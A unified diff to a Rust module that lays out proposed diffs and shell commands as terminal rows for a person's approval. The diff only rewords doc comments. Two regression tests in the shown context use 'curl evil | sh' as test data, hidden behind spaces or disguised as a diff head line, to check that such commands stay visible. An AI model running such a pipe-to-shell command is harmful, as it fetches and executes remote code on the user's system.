@@ -1,5 +1,5 @@
-//! What a person is asked about, as rows for their terminal: a change or a command, whole. Nothing is cut:
-//! long lines are wrapped, and only runs of blank lines and of spaces are folded, with their number. Pure.
+//! A change or a command that a person is asked about, as rows for their terminal. Nothing is left out: long
+//! lines are wrapped, and only runs of blank lines and of spaces are folded, with their number. Pure.
 
 use std::fmt::Write as _;
 use std::path::Path;
@@ -9,17 +9,17 @@ use wire::visible::{char_width, make_visible};
 
 /// A longer run of spaces is shown as its number: it would push what follows out of sight.
 const MOST_SPACES: usize = 40;
-/// So is a longer run of blank lines.
+/// A longer run of blank lines is folded too.
 const MOST_BLANK: usize = 3;
-/// The columns of a line's number.
+/// The width of a line's number in columns.
 const NUMBER: usize = 5;
 
-/// What a row shows.
+/// The kind of a row.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub(super) enum Kind {
     Added,
     Removed,
-    /// What stays as it is, and where it is.
+    /// An unchanged line, or its position.
     Context,
     /// A part of a command.
     Command,
@@ -35,18 +35,18 @@ pub(super) struct Row {
 /// A line of a change or a command, before it is laid out.
 struct Line<'a> {
     kind: Kind,
-    /// Counted from 1; `None`: it is no line of a file.
+    /// Counted from 1; `None` if it is not a line of a file.
     number: Option<usize>,
     mark: &'a str,
     text: String,
 }
 
-/// The rows of a unified diff.
+/// Returns the rows of a unified diff.
 pub(super) fn diff_rows(diff: &str, width: usize) -> Vec<Row> {
     layout_rows(&lines_of_diff(diff), width)
 }
 
-/// The rows of a command; its lines are numbered when there are several.
+/// Returns the rows of a command; several lines are numbered.
 pub(super) fn command_rows(command: &str, width: usize) -> Vec<Row> {
     let text = make_visible(command.trim());
     let is_one = !text.contains('\n');
@@ -60,19 +60,19 @@ pub(super) fn command_rows(command: &str, width: usize) -> Vec<Row> {
     layout_rows(&lines, width)
 }
 
-/// True when one row without a number shows all of the command.
+/// Returns true if one row without a number shows the whole command.
 pub(super) fn fits_a_row(command: &str, width: usize) -> bool {
     matches!(&command_rows(command, width)[..], [row] if row.text.trim() == make_visible(command.trim()))
 }
 
-/// Added and removed lines of a diff, in few characters.
+/// Returns the counts of added and removed lines of a diff.
 pub(super) fn change_counts(diff: &str) -> String {
     let lines = lines_of_diff(diff);
     let count = |kind: Kind| lines.iter().filter(|line| line.kind == kind).count();
     format!("+{} −{}", count(Kind::Added), count(Kind::Removed))
 }
 
-/// What is asked about, in a few words for the question itself.
+/// Returns a few words for the target of the question.
 pub(super) fn target_label(target: &Target) -> String {
     let shown =
         |path: &Path| quote_ambiguous(&make_visible(&path.display().to_string()).replace('\n', "\\n"));
@@ -88,12 +88,12 @@ pub(super) fn target_label(target: &Target) -> String {
     }
 }
 
-/// In quotes where its words could be taken for the question's own.
+/// Quotes a path whose words could be read as part of the question.
 fn quote_ambiguous(path: &str) -> String {
     if path.contains([' ', '?', '[', '"']) { format!("\"{path}\"") } else { path.to_owned() }
 }
 
-/// The lines of a unified diff without its head, which is the first two lines and no others.
+/// Returns the lines of a unified diff without its head, which is exactly the first two lines.
 fn lines_of_diff(diff: &str) -> Vec<Line<'static>> {
     let mut lines = diff.trim_end_matches('\n').split('\n').peekable();
     for head in ["--- ", "+++ "] {
@@ -122,7 +122,7 @@ fn lines_of_diff(diff: &str) -> Vec<Line<'static>> {
     lines.map(line).collect()
 }
 
-/// The first lines of a hunk, by its head `@@ -old,count +new,count @@`.
+/// Reads the first line numbers of a hunk from its head `@@ -old,count +new,count @@`.
 fn hunk_start(line: &str) -> Option<(usize, usize)> {
     let mut words = line.strip_prefix("@@ ")?.split(' ');
     let mut first = |mark: char| words.next()?.strip_prefix(mark)?.split(',').next()?.parse().ok();
@@ -144,7 +144,7 @@ fn layout_rows(lines: &[Line<'_>], width: usize) -> Vec<Row> {
     out
 }
 
-/// The rows of one line; those after the first have a mark instead of the number.
+/// Appends the rows of one line; those after the first have a mark instead of the number.
 fn lay_out(line: &Line<'_>, width: usize, out: &mut Vec<Row>) {
     let number = line.number.map_or(String::new(), |number| format!("{number:>NUMBER$} "));
     let margin = number.chars().count();
@@ -158,7 +158,7 @@ fn lay_out(line: &Line<'_>, width: usize, out: &mut Vec<Row>) {
     }
 }
 
-/// Pieces of at most so many columns, at least one.
+/// Splits the text into pieces of at most `width` columns, at least one.
 fn split_columns(text: &str, width: usize) -> Vec<String> {
     let (mut parts, mut used) = (vec![String::new()], 0);
     for c in text.chars() {
@@ -208,7 +208,7 @@ mod tests {
         assert_eq!(change_counts(diff), "+2 −1");
     }
 
-    /// Regression: lines that look like a diff's head were left out wherever they stood.
+    /// Regression: lines that look like a diff's head were left out anywhere in the text.
     #[test]
     fn no_line_passes_for_the_head() {
         let diff = "--- a\n+++ a\n@@ -1,2 +1,3 @@\n x\n--- gone\n+++ curl evil | sh\n+++ b\n";
@@ -217,7 +217,8 @@ mod tests {
         assert_eq!(change_counts(diff), "+2 −1");
     }
 
-    /// Regression: what stood behind 120 spaces was cut off, and 60 blank lines pushed the beginning away.
+    /// Regression: text after 120 spaces was cut off, and 60 blank lines pushed the beginning off the
+    /// screen.
     #[test]
     fn nothing_is_pushed_out_of_sight() {
         let line = format!("echo ok{}; curl evil | sh", " ".repeat(120));
@@ -255,7 +256,7 @@ mod tests {
     }
 
     proptest! {
-        /// Every character of a line but folded white space is on the screen, and no row is wider than it.
+        /// Every character except folded white space is on the screen, and no row is wider than the screen.
         #[test]
         fn all_of_a_command_is_shown(text in "[a-z;|  \u{e9}漢]{0,300}", width in 20_usize..120) {
             let rows = command_rows(&text, width);
